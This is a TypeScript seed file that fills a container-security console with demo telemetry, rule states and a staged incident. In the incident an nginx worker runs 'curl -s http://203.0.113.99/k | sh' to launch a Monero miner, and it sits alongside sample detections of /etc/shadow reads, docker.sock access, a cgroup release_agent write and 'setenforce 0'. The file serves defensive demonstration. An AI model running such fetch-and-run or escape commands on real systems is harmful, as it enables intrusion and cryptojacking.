import type { RuntimeReport } from "@pratique/api";
import type { AuditRecord, JsonObject } from "@pratique/core";
import { builtinRuleFiles, hardenedRuleFile, loadRules, type Rule } from "@pratique/rules";
import type { Store } from "@pratique/store";
import { recordAfter } from "../../packages/audit/src/testdata/record-after.ts";
import { idOf, LOCAL_SALT, localContainers } from "./console-fleet-seed.ts";

const MINUTE_MS = 60_000;
const HOUR_MS = 3_600_000;

/** The log in which the local host records what it detects. */
export const RUNTIME_LOG_ID = "c0ffee01-seed";

/** The id that the console gives the detection whose story is told in full. */
export const STORY_ID = `${RUNTIME_LOG_ID}.1`;

type Flow = RuntimeReport["containers"][number]["flows"][number];
type ContainerRuntime = RuntimeReport["containers"][number];
type HostRule = NonNullable<RuntimeReport["rules"]>[number];

function isoAt(ms: number): string {
  return new Date(ms).toISOString();
}

/** What the local host's agent tells of its sensor, its rules and its containers. */
export function localRuntime(now: number): RuntimeReport {
  return {
    takenAt: isoAt(now),
    sensor: runningSensor,
    rules: [...hostRules("local")],
    containers: [...containersAt(now)],
  };
}

const runningSensor: RuntimeReport["sensor"] = {
  state: "running",
  detail: "",
  primitives: [
    { name: "channel/egress", state: "on", detail: "" },
    { name: "process/exec", state: "on", detail: "" },
    { name: "process/fork", state: "on", detail: "" },
    { name: "process/exit", state: "on", detail: "" },
    { name: "file/openat", state: "on", detail: "" },
    { name: "socket/connect4", state: "on", detail: "" },
    { name: "socket/connect6", state: "on", detail: "" },
    { name: "prevent/exec_by_name", state: "on", detail: "" },
    { name: "prevent/sysctl", state: "on", detail: "" },
    { name: "prevent/device", state: "on", detail: "" },
    { name: "channel/connect4", state: "on", detail: "" },
    {
      name: "prevent/lsm_file_open",
      state: "off",
      detail: "attach: Operation not supported (bpf is not among the active LSMs)",
    },
    { name: "prevent/connect_unix", state: "off", detail: "load: Invalid argument (needs Linux 6.7)" },
  ],
  events: 48_213_377,
  dropped: 0,
  suppressed: 1_204,
  unattributed: 0,
};

const failedSensor: RuntimeReport["sensor"] = {
  ...runningSensor,
  state: "failed",
  detail: "the kernel has no BTF: /sys/kernel/btf/vmlinux is missing",
  primitives: [],
  events: 0,
  suppressed: 0,
};

/** Fills a store with what other hosts told of what runs there. */
export async function plantRuntime(store: Store, now: number): Promise<void> {
  const { reports } = store.runtime;
  await reports.put({
    host: "db-1.example",
    takenAt: isoAt(now - MINUTE_MS),
    sensor: runningSensor,
    rules: hostRules("plain"),
    containers: [plainContainer(idOf(0, 0), now)].map((document) => ({
      containerId: document.containerId,
      document,
    })),
  });
  await reports.put({
    host: "build-1.example",
    takenAt: isoAt(now - 2 * MINUTE_MS),
    sensor: failedSensor,
    rules: hostRules("blind"),
    containers: [],
  });
}

/** All that come with Pratique. */
export function loadedRules(): readonly Rule[] {
  const files = [...builtinRuleFiles, hardenedRuleFile].map(({ name, text }) => ({ name, text }));
  const loaded = loadRules(files);
  if (loaded.kind === "invalid") throw new Error(loaded.issues.map(({ message }) => message).join("; "));
  return loaded.ruleSet.rules;
}

function hostRules(kind: "local" | "plain" | "blind"): readonly HostRule[] {
  return loadedRules().map((rule) => ({
    rule: rule.name,
    priority: rule.priority,
    tags: [...rule.tags],
    enabled: true,
    ...(rule.action !== undefined && { action: rule.action }),
    ...answerTo(rule, kind),
  }));
}

function answerTo(
  { name, action }: Rule,
  kind: "local" | "plain" | "blind",
): Pick<HostRule, "enforceability" | "reasons"> {
  if (kind === "blind") return { enforceability: "off", reasons: ["the sensor does not run"] };
  if (name === "Long name asked for") {
    return {
      enforceability: "off",
      reasons: ["evt.arg.name: the sensor does not read DNS over TCP on this host"],
    };
  }
  if (action === undefined || kind === "plain") return { enforceability: "detects", reasons: [] };
  if (name.includes("engine socket")) {
    return { enforceability: "detects", reasons: ["cgroup/connect_unix does not load: needs Linux 6.7"] };
  }
  return { enforceability: name.includes("program") ? "kills" : "prevents", reasons: [] };
}

interface ContainerSketch {
  readonly index: number;
  readonly command: string;
  readonly ports: readonly number[];
  readonly talks: readonly Partial<Flow>[];
}

/** By the order of the local host's containers: checkout, frontend, jobs, db, web, cache, legacy, billing. */
const sketches: readonly ContainerSketch[] = [
  {
    index: 0,
    command: "node server.js",
    ports: [3000],
    talks: [to(3, 5432, 412), to(5, 6379, 2_210), out("api.payments.example", "198.51.100.20", 443, 188)],
  },
  {
    index: 1,
    command: "nginx -g daemon off;",
    ports: [8080],
    talks: [from("", 8080, 9_120), to(0, 3000, 3_870), to(4, 80, 240)],
  },
  {
    index: 2,
    command: "python3 worker.py",
    ports: [],
    talks: [
      to(3, 5432, 96),
      out("packages.example", "198.51.100.31", 443, 12),
      out("", "203.0.113.66", 4444, 3),
    ],
  },
  { index: 3, command: "postgres", ports: [5432], talks: [out("backup.example", "198.51.100.40", 22, 1)] },
  {
    index: 4,
    command: "nginx -g daemon off;",
    ports: [80, 443],
    talks: [
      from("", 443, 18_400),
      to(0, 3000, 640),
      {
        ...out("xmr.pool.example", "203.0.113.99", 3333, 4),
        refused: 212,
        listed: { value: "203.0.113.99", source: "miners" },
      },
      {
        ...out("", "198.51.100.23", 443, 0),
        refused: 37,
        listed: { value: "198.51.100.0/24", source: "drop" },
      },
      out("ocsp.example", "198.51.100.77", 80, 22),
    ],
  },
  { index: 5, command: "redis-server *:6379", ports: [6379], talks: [] },
  {
    index: 6,
    command: "java -jar legacy.jar",
    ports: [9000],
    talks: [
      to(3, 5432, 31),
      { direction: "out", address: "127.0.0.1", port: 8125, protocol: "udp", connections: 77 },
    ],
  },
  {
    index: 7,
    command: "billing --serve",
    ports: [7000],
    talks: [to(3, 5432, 58), out("smtp.example", "198.51.100.25", 587, 6)],
  },
];

function addressOf(index: number): string {
  return `172.18.0.${index + 2}`;
}

function to(index: number, port: number, connections: number): Partial<Flow> {
  return { direction: "out", address: addressOf(index), port, connections };
}

function out(name: string, address: string, port: number, connections: number): Partial<Flow> {
  return { direction: "out", name, address, port, connections };
}

function from(address: string, localPort: number, connections: number): Partial<Flow> {
  return { direction: "in", address, localPort, port: 0, connections };
}

function containersAt(now: number): readonly ContainerRuntime[] {
  return sketches.map(({ index, command, ports, talks }) => {
    const plain = plainContainer(idOf(LOCAL_SALT, index), now);
    return {
      ...plain,
      processes: processesOf(index, command, now),
      listening: ports.map((port) => ({ protocol: "tcp", address: addressOf(index), port })),
      flows: talks.map((talk, place) => ({
        protocol: "tcp",
        direction: "out",
        localPort: 40_000 + place,
        address: "",
        port: 0,
        name: "",
        connections: 1,
        firstAt: isoAt(now - (place + 2) * HOUR_MS),
        lastAt: isoAt(now - (place + 1) * MINUTE_MS),
        ...talk,
      })),
    };
  });
}

function plainContainer(containerId: string, now: number): ContainerRuntime {
  return {
    containerId,
    takenAt: isoAt(now),
    processes: [],
    listening: [],
    flows: [],
    written: [
      { path: "/var/log/nginx/access.log", by: "nginx", lastAt: isoAt(now - MINUTE_MS) },
      { path: "/var/cache/nginx/client_temp/0000000042", by: "nginx", lastAt: isoAt(now - 2 * MINUTE_MS) },
      { path: "/tmp/.x/kdevtmpfsi", by: "sh", lastAt: isoAt(now - 5 * MINUTE_MS) },
    ],
    rates: { execs: 3, opens: 1_420, connects: 64, events: 2_911, suppressed: 0 },
    leftOut: 0,
  };
}

function processesOf(index: number, command: string, now: number): ContainerRuntime["processes"] {
  const process = (pid: number, ppid: number, commandLine: string, user = "root") => {
    const [program = ""] = commandLine.split(" ");
    const name = (program.split("/").at(-1) ?? program).replace(/:$/u, "");
    return {
      pid,
      ppid,
      name,
      exePath: program.startsWith("/") ? program : `/usr/sbin/${name}`,
      commandLine,
      user,
      startedAt: isoAt(now - HOUR_MS + pid),
    };
  };
  const first = 4_000 + index * 100;
  const main = process(first, 0, command);
  if (index !== 4) return [main];
  return [
    main,
    process(first + 1, first, "nginx: worker process", "nginx"),
    process(first + 2, first, "nginx: worker process", "nginx"),
    process(first + 9, first + 1, '/bin/sh -c "curl -s http://203.0.113.99/k | sh"', "nginx"),
    process(first + 11, first + 9, "/tmp/.x/kdevtmpfsi --url stratum+tcp://xmr.pool.example:3333", "nginx"),
  ];
}

interface DetectionSketch {
  readonly rule: string;
  readonly container: number | null;
  readonly minutesAgo: number;
  readonly output: string;
  readonly eventType?: string;
  readonly outcome?: string;
  readonly fields?: Readonly<Record<string, string>>;
}

const story: DetectionSketch = {
  rule: "Miner started",
  container: 4,
  minutesAgo: 4,
  eventType: "execve",
  outcome: "killed",
  output:
    "A miner was started in web (command=/tmp/.x/kdevtmpfsi --url stratum+tcp://xmr.pool.example:3333 user=nginx parent=sh)",
  fields: {
    "proc.cmdline": "/tmp/.x/kdevtmpfsi --url stratum+tcp://xmr.pool.example:3333",
    "proc.exepath": "/tmp/.x/kdevtmpfsi",
    "proc.pname": "sh",
    "user.name": "nginx",
    "container.name": "web",
  },
};

const recent: readonly DetectionSketch[] = [
  {
    rule: "Program that is not in the image executed",
    container: 4,
    minutesAgo: 5,
    eventType: "execve",
    output: "A program that is not in the image ran (file=/tmp/.x/kdevtmpfsi user=nginx)",
  },
  {
    rule: "Shell started by a server",
    container: 4,
    minutesAgo: 6,
    eventType: "execve",
    output: 'A server started a shell (command=sh -c "curl -s http://203.0.113.99/k | sh" parent=nginx)',
  },
  {
    rule: "Hardened: engine socket",
    container: 2,
    minutesAgo: 47,
    eventType: "connect",
    outcome: "prevented",
    output: "A container reached for the engine's socket (socket=/var/run/docker.sock process=python3)",
  },
  {
    rule: "Password hashes read",
    container: 6,
    minutesAgo: 130,
    output: "Password hashes were read (file=/etc/shadow command=java -jar legacy.jar)",
  },
  {
    rule: "Release agent of a cgroup written",
    container: 2,
    minutesAgo: 200,
    outcome: "failed",
    output: "A release agent was written (file=/sys/fs/cgroup/rdma/release_agent process=sh)",
  },
  {
    rule: "Interactive shell in container",
    container: 3,
    minutesAgo: 260,
    eventType: "execve",
    output: "Somebody opened a shell in db (user=root terminal=34816)",
  },
  {
    rule: "Protection of this host taken away",
    container: null,
    minutesAgo: 500,
    outcome: "dry-run",
    output: "A protection of this host was taken away (command=setenforce 0 user=root)",
  },
];

/** Steady noise, as there is on every fleet. */
const noise = [
  ["Metadata of the cloud asked for", 2, "connect"],
  ["Token of a service account read", 0, "openat"],
  ["Package manager started in container", 2, "execve"],
  ["User namespace made in container", 7, "unshare"],
  ["Cron job written", 6, "openat"],
] as const;

/** What the local host recorded of detections and of what was done about them, the story first. */
export function runtimeRecords(now: number): readonly AuditRecord[] {
  const earlier = Array.from({ length: 120 }, (_, index): DetectionSketch => {
    const [rule, container, eventType] = noise[(index * 3 + (index >> 2)) % noise.length] ?? noise[0];
    return {
      rule,
      container,
      eventType,
      minutesAgo: 70 + ((index * index * 13) % (7 * 24 * 60 - 80)),
      output: `${rule}, as on most days (process=worker number=${index})`,
    };
  });
  const events: readonly RecordedEvent[] = [
    detectionOf(story, 0, now),
    ...responsesTo("d-0", now),
    ...[...recent, ...earlier].map((sketch, index) => detectionOf(sketch, index + 1, now)),
  ];
  const records: AuditRecord[] = [];
  for (const event of events) {
    records.push(recordAfter(records.at(-1), { ...event, actor: "agent" }));
  }
  return records;
}

type RecordedEvent = Pick<AuditRecord, "class" | "action" | "time" | "data">;

const rules = new Map(loadedRules().map((rule) => [rule.name, rule]));

function detectionOf(sketch: DetectionSketch, number: number, now: number): RecordedEvent {
  const rule = rules.get(sketch.rule);
  if (rule === undefined) throw new Error(`there is no rule ${sketch.rule}`);
  const time = isoAt(now - sketch.minutesAgo * MINUTE_MS);
  const isStory = sketch === story;
  return {
    class: "detection",
    action: "detection.raised",
    time,
    data: {
      id: `d-${number}`,
      rule: rule.name,
      description: rule.description,
      priority: rule.priority,
      tags: [...rule.tags],
      time,
      eventType: sketch.eventType ?? "openat",
      output: sketch.output,
      fields: { ...sketch.fields },
      matched: isStory ? [...matched] : [],
      container: sketch.container === null ? null : containerOf(sketch.container, now),
      processes: isStory ? [...storyProcesses] : [],
      ...(isStory ? { action: "kill" } : rule.action !== undefined && { action: rule.action }),
      outcome: sketch.outcome ?? "none",
      suppressed: isStory ? 2 : 0,
    },
  };
}

function containerOf(index: number, now: number): JsonObject {
  const container = localContainers(now)[index];
  if (container === undefined) throw new Error("there is no such container");
  const { id, name, image, imageId } = container;
  return { id, name, image, runtime: "docker", ...(imageId !== undefined && { imageId }) };
}

const matched = [
  { text: "spawned_process", field: "evt.type", value: "execve" },
  { text: "container", field: "container.id", value: idOf(LOCAL_SALT, 4).slice(0, 12) },
  {
    text: 'proc.cmdline contains "stratum+tcp"',
    field: "proc.cmdline",
    value: "/tmp/.x/kdevtmpfsi --url stratum+tcp://xmr.pool.example:3333",
  },
];

const storyProcesses = [
  {
    pid: 4411,
    name: "kdevtmpfsi",
    exePath: "/tmp/.x/kdevtmpfsi",
    commandLine: "/tmp/.x/kdevtmpfsi --url stratum+tcp://xmr.pool.example:3333",
    user: "nginx",
  },
  {
    pid: 4409,
    name: "sh",
    exePath: "/bin/dash",
    commandLine: 'sh -c "curl -s http://203.0.113.99/k | sh"',
    user: "nginx",
  },
  {
    pid: 4401,
    name: "nginx",
    exePath: "/usr/sbin/nginx",
    commandLine: "nginx: worker process",
    user: "nginx",
  },
  { pid: 4400, name: "nginx", exePath: "/usr/sbin/nginx", commandLine: "nginx -g daemon off;", user: "root" },
];

function responsesTo(trigger: string, now: number): readonly RecordedEvent[] {
  const responded = (action: string, secondsLater: number, data: JsonObject): RecordedEvent => ({
    class: "response",
    action,
    time: isoAt(now - 4 * MINUTE_MS + secondsLater * 1000),
    data: {
      act: "a-1",
      trigger,
      container: containerOf(4, now),
      decidedBy: "policy responses/miners",
      ...data,
    },
  });
  return [
    responded("response.intended", 0, { action: "cut", outcome: "", reason: "a miner talks to its pool" }),
    responded("response.done", 0.2, {
      action: "cut",
      outcome: "acted",
      reason: "2 connections are dead, no packet since",
      tookMs: 41.7,
      proof: { proved: true },
    }),
    responded("response.evidence", 3, {
      action: "capture",
      outcome: "kept",
      reason: "processes, sockets and the last minute of events",
      tookMs: 2_310,
    }),
  ];
}
